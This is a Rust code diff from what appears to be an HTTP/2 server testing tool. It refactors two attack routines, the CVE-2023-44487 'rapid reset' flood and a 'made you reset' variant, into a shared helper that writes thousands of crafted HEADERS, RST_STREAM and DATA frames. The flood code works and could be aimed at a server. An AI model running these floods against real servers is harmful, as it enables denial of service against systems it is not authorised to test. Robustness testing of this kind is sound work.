@@ -86,18 +86,14 @@ fn unary_request(ctx: &Ctx, stream: u32, message: &[u8]) -> Vec<u8> {
     out
 }
 
-/// CVE-2023-44487: open a stream and cancel it at once, in a loop, so the server
-/// starts work the client never waits for.
-pub async fn rapid_reset(ctx: &Ctx) -> anyhow::Result<String> {
-    let streams = ctx.scale.n(10_000);
-    let mut raw = Raw::handshake(&ctx.addr, &[]).await?;
-    let block = request_block(&ctx.addr, SAY_HELLO, &[]);
+/// Writes `frames(id)` for `streams` new client streams (ids 1, 3, 5, …), batched
+/// into writes of about 64 KiB, until all are written or the server closes the
+/// connection. Returns how many streams' frames were written.
+async fn per_stream(raw: &mut Raw, streams: usize, frames: impl Fn(u32) -> Vec<u8>) -> usize {
     let mut sent = 0;
     let mut batch = Vec::new();
     for i in 0..streams {
-        let id = 1 + 2 * i as u32;
-        batch.extend(frame(kind::HEADERS, END_HEADERS, id, &block));
-        batch.extend(rst_stream(id, CANCEL));
+        batch.extend(frames(1 + 2 * i as u32));
         if batch.len() > 64 * 1024 || i + 1 == streams {
             if !raw.send(&batch).await {
                 break;
@@ -109,6 +105,21 @@ pub async fn rapid_reset(ctx: &Ctx) -> anyhow::Result<String> {
             break;
         }
     }
+    sent
+}
+
+/// CVE-2023-44487: open a stream and cancel it at once, in a loop, so the server
+/// starts work the client never waits for.
+pub async fn rapid_reset(ctx: &Ctx) -> anyhow::Result<String> {
+    let streams = ctx.scale.n(10_000);
+    let mut raw = Raw::handshake(&ctx.addr, &[]).await?;
+    let block = request_block(&ctx.addr, SAY_HELLO, &[]);
+    let sent = per_stream(&mut raw, streams, |id| {
+        let mut frames = frame(kind::HEADERS, END_HEADERS, id, &block);
+        frames.extend(rst_stream(id, CANCEL));
+        frames
+    })
+    .await;
     raw.closed_within(Duration::from_secs(1)).await;
     Ok(format!(
         "{sent} of {streams} HEADERS+RST_STREAM pairs written; server: {}",
@@ -127,23 +138,12 @@ pub async fn made_you_reset(ctx: &Ctx) -> anyhow::Result<String> {
     let streams = ctx.scale.n(10_000);
     let mut raw = Raw::handshake(&ctx.addr, &[]).await?;
     let block = request_block(&ctx.addr, SAY_HELLO, &[]);
-    let mut sent = 0;
-    let mut batch = Vec::new();
-    for i in 0..streams {
-        let id = 1 + 2 * i as u32;
-        batch.extend(frame(kind::HEADERS, END_HEADERS | END_STREAM, id, &block));
-        batch.extend(frame(kind::DATA, 0, id, &[0; 5]));
-        if batch.len() > 64 * 1024 || i + 1 == streams {
-            if !raw.send(&batch).await {
-                break;
-            }
-            sent = i + 1;
-            batch.clear();
-        }
-        if raw.seen().closed {
-            break;
-        }
-    }
+    let sent = per_stream(&mut raw, streams, |id| {
+        let mut frames = frame(kind::HEADERS, END_HEADERS | END_STREAM, id, &block);
+        frames.extend(frame(kind::DATA, 0, id, &[0; 5]));
+        frames
+    })
+    .await;
     raw.closed_within(Duration::from_secs(1)).await;
     Ok(format!(
         "{sent} of {streams} HEADERS(END_STREAM)+DATA pairs written; server: {}",
